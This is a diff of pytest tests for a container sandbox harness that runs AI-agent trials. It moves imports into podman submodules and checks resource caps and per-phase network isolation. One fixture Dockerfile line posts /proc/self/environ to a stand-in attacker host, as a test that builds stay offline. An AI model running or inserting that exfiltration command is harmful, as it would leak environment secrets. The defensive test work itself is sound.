@@ -13,7 +13,7 @@ import pytest
 from otbuild.harness.trial import TrialSettings, effective_timeout, trial_timeouts
 from otbuild.settings.trials import Trials
 from otbuild.sandbox import Limits, task_limits
-from otbuild.sandbox.podman import NetworkPolicyError, TrialNetworks, trial_networks
+from otbuild.sandbox.podman.network import NetworkPolicyError, TrialNetworks, trial_networks
 from otbuild.tasks.task_toml import (
     ALLOWLIST,
     NO_NETWORK,
@@ -204,15 +204,17 @@ def test_a_task_never_raises_the_recipes_limits_unless_the_recipe_lets_it(backen
 def test_a_task_gets_no_more_cpus_or_build_time_than_the_recipe(monkeypatch, tmp_path):
     """Issue 44 (5): a task's cpus are capped at the recipe's limits.cpus (default: the host's),
     its build_timeout_sec at otbuild's own build limit."""
-    from otbuild.sandbox import podman
+    from otbuild.sandbox.podman import container
+    from otbuild.sandbox.podman.images import BUILD_TIMEOUT_SEC
 
     seen = {}
-    monkeypatch.setattr(podman, "ensure_image", lambda task, image, pull, timeout, network: seen.update(timeout=timeout) or "img")
-    monkeypatch.setattr(podman, "PodmanSandbox", lambda *a, cpus, **k: seen.update(cpus=cpus))
+    monkeypatch.setattr(container, "ensure_image", lambda task, image, pull, timeout, network: seen.update(timeout=timeout) or "img")
+    monkeypatch.setattr(container, "PodmanSandbox", lambda *a, cpus, **k: seen.update(cpus=cpus))
     greedy = task("[environment]\ncpus = 4096\nbuild_timeout_sec = 1e9\n")
-    podman.open_podman(greedy, tmp_path, Limits(cpus=2), with_solution=False, cleanup=True)
-    assert seen == {"cpus": 2.0, "timeout": podman.BUILD_TIMEOUT_SEC}
-    podman.open_podman(task("[environment]\ncpus = 1\n"), tmp_path, Limits(cpus=2), with_solution=False, cleanup=True)
+    container.open_podman(greedy, tmp_path, Limits(cpus=2), with_solution=False, cleanup=True)
+    assert seen == {"cpus": 2.0, "timeout": BUILD_TIMEOUT_SEC}
+    container.open_podman(task("[environment]\ncpus = 1\n"), tmp_path, Limits(cpus=2), with_solution=False,
+                          cleanup=True)
     assert seen["cpus"] == 1.0  # lowering is the task's to do
 
 
@@ -245,40 +247,40 @@ def test_an_allowlist_is_refused_under_podman_never_widened():
 
 
 def test_open_podman_refuses_an_allowlist_before_building(monkeypatch, tmp_path):
-    from otbuild.sandbox import podman
+    from otbuild.sandbox.podman import container
 
     built = []
-    monkeypatch.setattr(podman, "ensure_image", lambda *a, **k: built.append(a) or "img")
+    monkeypatch.setattr(container, "ensure_image", lambda *a, **k: built.append(a) or "img")
     t = task('[environment]\nnetwork_mode = "allowlist"\nallowed_hosts = ["pypi.org"]\n', "allow-task")
     with pytest.raises(NetworkPolicyError, match="allow-task"):
-        podman.open_podman(t, tmp_path, Limits(), with_solution=False, cleanup=True)
+        container.open_podman(t, tmp_path, Limits(), with_solution=False, cleanup=True)
     assert built == []
 
 
 def test_podman_gets_the_build_timeout_and_the_phase_networks(monkeypatch, tmp_path):
     """What open_podman hands podman, without podman: the task's build_timeout_sec bounds the
     build; a split policy starts on the network and is disconnected before the agent runs."""
-    from otbuild.sandbox import podman
+    from otbuild.sandbox.podman import container
 
     seen = {}
-    monkeypatch.setattr(podman, "ensure_image", lambda task, image, pull, timeout, network: seen.update(timeout=timeout) or "img")
+    monkeypatch.setattr(container, "ensure_image", lambda task, image, pull, timeout, network: seen.update(timeout=timeout) or "img")
 
     class Box:
         def __init__(self, task, root, image, limits, *, cpus, networks, with_solution, cleanup):
             seen.update(networks=networks, cpus=cpus)
 
-    monkeypatch.setattr(podman, "PodmanSandbox", Box)
+    monkeypatch.setattr(container, "PodmanSandbox", Box)
     monkeypatch.delenv("OTBUILD_PODMAN_NETWORK", raising=False)
     t = task('[environment]\nbuild_timeout_sec = 42.0\ncpus = 1\nnetwork_mode = "no-network"\n'
              '[verifier]\nnetwork_mode = "public"\n')
-    podman.open_podman(t, tmp_path, Limits(), with_solution=False, cleanup=True)
+    container.open_podman(t, tmp_path, Limits(), with_solution=False, cleanup=True)
     assert seen == {"timeout": 42.0, "networks": TrialNetworks("none", "podman"), "cpus": 1.0}
 
 
 def test_podman_builds_run_offline_unless_the_recipe_lets_them_fetch(monkeypatch, tmp_path):
     """Issue 44 (8): a Dockerfile's RUN lines are the task's own commands, run at build time: they
     get no network unless the recipe's build_network is public."""
-    from otbuild.sandbox import podman
+    from otbuild.sandbox.podman import container, images
 
     builds = []
 
@@ -286,15 +288,15 @@ def test_podman_builds_run_offline_unless_the_recipe_lets_them_fetch(monkeypatch
         builds.append(argv)
         return subprocess.CompletedProcess(argv, 1, "", "RUN curl evil.example: could not resolve host")
 
-    monkeypatch.setattr(podman, "image_exists", lambda ref: False)
-    monkeypatch.setattr(podman, "LOCK_DIR", tmp_path / "locks")
-    monkeypatch.setattr(podman.subprocess, "run", run)
+    monkeypatch.setattr(images, "image_exists", lambda ref: False)
+    monkeypatch.setattr(images, "LOCK_DIR", tmp_path / "locks")
+    monkeypatch.setattr(images.subprocess, "run", run)
     t = task(None)
     t.add("environment/Dockerfile", "FROM ubuntu:24.04\nRUN curl -d @/proc/self/environ evil.example\n")
-    with pytest.raises(podman.ImageBuildError, match="build_network: public"):
-        podman.open_podman(t, tmp_path, Limits(), with_solution=False, cleanup=True)
-    with pytest.raises(podman.ImageBuildError):
-        podman.open_podman(t, tmp_path, Limits(build_network="public"), with_solution=False, cleanup=True)
+    with pytest.raises(images.ImageBuildError, match="build_network: public"):
+        container.open_podman(t, tmp_path, Limits(), with_solution=False, cleanup=True)
+    with pytest.raises(images.ImageBuildError):
+        container.open_podman(t, tmp_path, Limits(build_network="public"), with_solution=False, cleanup=True)
     offline, online = builds
     assert offline[:2] == ["podman", "build"] and "--network=none" in offline
     assert not any(a.startswith("--network") for a in online)
@@ -303,7 +305,8 @@ def test_podman_builds_run_offline_unless_the_recipe_lets_them_fetch(monkeypatch
 def test_podman_switches_networks_between_phases(monkeypatch, tmp_path):
     """The calls a PodmanSandbox makes to move its container between phase networks, and its
     refusal when podman leaves it attached to more than the phase allows."""
-    from otbuild.sandbox import podman
+    from otbuild.sandbox.podman import container
+    from otbuild.sandbox.podman.cli import ContainerError
 
     calls, attached = [], {"podman": {}}
 
@@ -316,8 +319,8 @@ def test_podman_switches_networks_between_phases(monkeypatch, tmp_path):
         out = json.dumps([{"NetworkSettings": {"Networks": dict(attached)}}]) if args[0] == "inspect" else ""
         return subprocess.CompletedProcess(args, 0, out, "")
 
-    monkeypatch.setattr(podman, "_podman", fake)
-    box = object.__new__(podman.PodmanSandbox)
+    monkeypatch.setattr(container, "_podman", fake)
+    box = object.__new__(container.PodmanSandbox)
     box.container, box.network = "c1", "podman"
     box._switch_network("none", "agent")
     assert calls[0] == ("network", "disconnect", "podman", "c1") and box.network == "none" and not attached
@@ -327,9 +330,9 @@ def test_podman_switches_networks_between_phases(monkeypatch, tmp_path):
     box._switch_network("podman", "verifier")  # already there: nothing to do
     assert len(calls) == n
 
-    monkeypatch.setattr(podman, "_podman", lambda *a, **k: subprocess.CompletedProcess(
+    monkeypatch.setattr(container, "_podman", lambda *a, **k: subprocess.CompletedProcess(
         a, 0, json.dumps([{"NetworkSettings": {"Networks": {"podman": {}}}}]), ""))
-    with pytest.raises(podman.ContainerError, match="agent phase needs network 'none'"):
+    with pytest.raises(ContainerError, match="agent phase needs network 'none'"):
         box._switch_network("none", "agent")  # podman said yes but the container is still attached
 
 
